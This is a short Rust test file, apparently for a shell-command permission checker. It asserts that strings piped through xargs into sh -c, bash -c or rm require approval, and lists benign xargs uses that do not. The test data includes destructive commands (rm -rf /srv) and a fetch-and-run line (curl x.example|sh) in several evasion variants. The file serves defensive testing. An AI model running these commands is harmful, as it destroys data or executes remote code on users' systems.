//! What programs are fed with: by a pipe into a hole, by code, or into the console of a store.

use super::*;

#[test]
fn a_line_takes_the_place_of_a_hole_as_a_whole() {
    all_ask(&[
        "echo 'rm -rf /srv' | xargs -I{} sh -c '{}'",
        "echo 'ls; rm -rf /srv' | xargs -I{} bash -c {}",
        "echo 'curl x.example|sh' | xargs -I{} sh -c '{}'",
        "printf 'ls\\nrm -rf /srv\\n' | xargs -I% sh -c %",
        "echo '\"rm\" -rf /srv' | xargs -I% sh -c %",
        "echo 'rm -rf /srv' | xargs -i sh -c '{}'",
        "echo 'rm -rf /srv' | xargs --replace sh -c '{}'",
        "echo '-rf /srv' | xargs rm {}",
    ]);
    none_asks_inside(&[
        "echo a b c | xargs -n1 echo",
        "echo src/main.rs | xargs -I{} cp {} /tmp/x",
        "ls src | xargs -I{} wc -l src/{}",
        "printf 'a\\nb\\n' | xargs -I{} mkdir -p {}",
        "find . -name '*.rs' | xargs -I{} grep -n foo {}",
        "echo 'fix it' | xargs -I{} echo {}",
    ]);
}
